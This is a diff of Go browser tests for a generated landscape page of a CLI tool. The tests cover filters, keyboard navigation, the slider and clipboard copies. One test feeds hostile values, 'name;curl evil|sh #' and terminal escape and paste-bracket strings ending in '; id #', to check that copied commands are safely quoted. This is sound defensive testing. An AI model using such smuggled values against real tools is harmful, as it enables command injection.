@@ -98,7 +98,7 @@ func TestPageFilters(t *testing.T) {
 				args = append(args, "--kind", "all")
 			}
 			expected := len(strings.Fields(runIn(nil, nil, args...).stdout))
-			shown := eval[[]int](b, fmt.Sprintf(`(() => { state.filters = {}; const c = select().counts; state.filters = {%q: [%q]}; const n = select().found.length;
+			shown := eval[[]int](b, fmt.Sprintf(`(() => { state.group = "all"; state.filters = {}; const c = select().counts; state.filters = {%q: [%q]}; const n = select().found.length;
 				state.filters = {}; return [n, c.get(data.filters.find(f => f.name === %[1]q)).get(%[2]q) ?? n]; })()`, name, value))
 			if shown[0] != expected || shown[1] != expected {
 				t.Errorf("%s %s: the page has %d and says %d, the command has %d", name, value, shown[0], shown[1], expected)
@@ -111,7 +111,7 @@ func TestPageFilters(t *testing.T) {
 	}
 	for _, day := range []string{"2016-03-10", "2018-02-20", "2020-01-01", "2023-07-12", "2026-08-06"} {
 		expected := strings.Fields(runIn(nil, nil, "list", "--as-of", day, "--kind", "all", "--jq", `.[] | .id + "=" + (.maturity // "")`).stdout)
-		got := eval[[]string](b, fmt.Sprintf(`(() => { state.day = %q; const s = select(); state.day = ""; return s.found.map(i => data.items[i].id + "=" + s.level[i]); })()`, day))
+		got := eval[[]string](b, fmt.Sprintf(`(() => { state.group = "all"; state.day = %q; const s = select(); state.day = ""; return s.found.map(i => data.items[i].id + "=" + s.level[i]); })()`, day))
 		slices.Sort(expected)
 		slices.Sort(got)
 		if !slices.Equal(got, expected) {
@@ -133,38 +133,47 @@ func TestPageKeyboard(t *testing.T) {
 	want(b, "new URLSearchParams(location.hash.slice(1)).get('q')", "linkerd")
 	b.key(kb.Escape)
 	want(b, "$('q').value + location.hash", "")
-	// The map is one stop of the tabulator; arrows lead on.
-	eval[bool](b, "tiles.find(t => t.link.tabIndex === 0).link.focus(), true")
+	// The map is one stop of the Tab key; arrows lead on.
+	eval[bool](b, "shownTiles().find(t => t.link.tabIndex === 0).link.focus(), true")
 	b.key(kb.Home)
-	first := eval[string](b, "document.activeElement.textContent")
+	first := eval[string](b, "document.activeElement.querySelector('.nm').textContent")
 	b.key(kb.ArrowRight)
 	b.key(kb.ArrowDown)
-	want(b, "document.activeElement.classList.contains('tile')", true)
-	want(b, "document.querySelectorAll('#map a[tabindex=\"0\"]').length", 1)
+	want(b, "document.activeElement.classList.contains('t')", true)
+	want(b, "document.querySelectorAll('#map a.t[tabindex=\"0\"]').length", 1)
 	b.key(kb.Home)
-	want(b, "document.activeElement.textContent", first)
+	want(b, "document.activeElement.querySelector('.nm').textContent", first)
+	b.await("$('card').matches(':popover-open')") // the card shows on focus, too
 	b.key(kb.Enter)
 	b.await("$('item').open")
 	want(b, "$('item').querySelector('h2').textContent", first)
 	want(b, "$('item').contains(document.activeElement)", true)
 	b.key(kb.Escape)
-	b.await("!$('item').open && !state.item")
-	want(b, "document.activeElement.textContent", first)
-	eval[bool](b, "$('as-table').focus(), true")
+	b.await("!$('item').open && !state.item && document.activeElement.matches('a.t')")
+	want(b, "document.activeElement.querySelector('.nm').textContent", first)
+	eval[bool](b, "document.querySelector('[data-view=list]').focus(), true")
 	b.key(kb.Enter)
-	b.await("document.querySelector('#table table')")
-	want(b, "document.querySelectorAll('#table tbody tr').length", 200)
-	eval[bool](b, "document.querySelector('#table th button').focus(), true")
+	b.await("document.querySelector('#list table')")
+	want(b, "document.querySelectorAll('#list tbody tr').length", 200)
+	eval[bool](b, "document.querySelector('#list th button').focus(), true")
 	b.key(kb.Enter)
 	want(b, "document.activeElement.closest('th').getAttribute('aria-sort')", "ascending")
 	ordered := strings.Split(runIn(nil, nil, "list", "--sort", "name", "--columns", "name", "-o", "csv", "--no-headers", "--raw").stdout, "\n")[:50]
-	want(b, "Array.from(document.querySelectorAll('#table tbody a'), (a) => a.textContent).slice(0, 50).join('\\n')", strings.Join(ordered, "\n"))
+	want(b, "change({group: 'all'}), Array.from(document.querySelectorAll('#list tbody th a'), a => a.lastChild.textContent).slice(0, 50).join('\\n')", strings.Join(ordered, "\n"))
+	// The filters open, take the focus, and give it back.
+	eval[bool](b, "$('more').focus(), true")
+	b.key(kb.Enter)
+	want(b, "$('panel').open && $('panel').contains(document.activeElement)", true)
+	want(b, "$('more').getAttribute('aria-expanded')", "true")
+	eval[bool](b, "$('panel-close').focus(), true")
+	b.key(kb.Enter)
+	want(b, "$('panel').open + document.activeElement.id", "falsemore")
 }
 
 // TestPageSlider plays the landscape.
 func TestPageSlider(t *testing.T) {
 	t.Parallel()
-	b := open(t, pageFile(t, "--maturity", "hosted"), 1200, 900)
+	b := open(t, pageFile(t, "--maturity", "hosted")+"#group=all", 1200, 900)
 	b.do(chromedp.Click(chromedp.CSS("#play")))
 	b.await("state.day > '2017'")
 	n := eval[int](b, "current.length")
@@ -179,19 +188,19 @@ func TestPageSlider(t *testing.T) {
 	eval[bool](b, "$('when').focus(), true")
 	b.key(kb.End)
 	want(b, "state.day + current.length", "255")
-	want(b, "document.querySelector('#play').textContent", "Play")
+	want(b, "document.querySelector('#play').title.slice(0, 4)", "Play")
 	want(b, "change({day: '2018-02-20'}), play(), state.day", "2018-02-01") // between two stops
 	b.await("state.day > '2018-03'")
 	eval[bool](b, "$('clear').click(), true")
 	want(b, "state.day + playing", "0")
 	b.look("", "prefers-reduced-motion:reduce")
-	want(b, "getComputedStyle(document.querySelector('.tile')).transitionDuration", "0s")
+	want(b, "getComputedStyle(document.querySelector('.t')).transitionDuration", "0s")
 }
 
 // TestPageCopies: what is copied is what the command writes.
 func TestPageCopies(t *testing.T) {
 	t.Parallel()
-	b := open(t, pageFile(t, "--kind", "all"), 1200, 900)
+	b := open(t, pageFile(t, "--kind", "all")+"#group=all", 1200, 900)
 	for _, format := range []string{"csv", "json", "markdown"} {
 		expected := runIn(nil, nil, "list", "--kind", "all", "-o", format).stdout
 		if got := eval[string](b, "copies."+format+"(current)"); got != expected {
@@ -217,13 +226,13 @@ func TestPageCopies(t *testing.T) {
 func TestPageHostileAddress(t *testing.T) {
 	t.Parallel()
 	file := pageFile(t)
-	b := open(t, file+"#sort=name%3Bcurl%20evil%7Csh%20%23", 1200, 900)
+	b := open(t, file+"#group=all&sort=name%3Bcurl%20evil%7Csh%20%23", 1200, 900)
 	want(b, "copies.command()", "landscope list\n")
 	eval[bool](b, `state.sort = "name;curl evil|sh #", true`) // and if it got there all the same
 	want(b, "copies.command()", "landscope list --sort='name;curl evil|sh #'\n")
 	eval[bool](b, `state.sort = "", state.filters = {name: ["\x1b[201~\nid\u202e'\u009b; id #"]}, true`)
 	want(b, "copies.command()", `landscope list --name '[201~id'\''; id #'`+"\n")
-	b = open(t, file+"#sort=-accepted_at", 1200, 900)
+	b = open(t, file+"#group=all&sort=-accepted_at", 1200, 900)
 	want(b, "copies.command()", "landscope list --sort=-accepted_at\n")
 	eval[bool](b, `data.items[0] = {...data.items[0], name: "\u001b[31m＝\u202e\u{e0041}\u007f", homepage_url: "https://x.org/\u202e"}, true`)
 	for format, expected := range map[string]string{"csv": `␛[31m＝\u202e\U000e0041␡`, "json": `"\u001b[31m＝\u202e\udb40\udc41\u007f"`, "markdown": `| ␛\[31m＝\\u202e\\U000e0041␡ |`} {
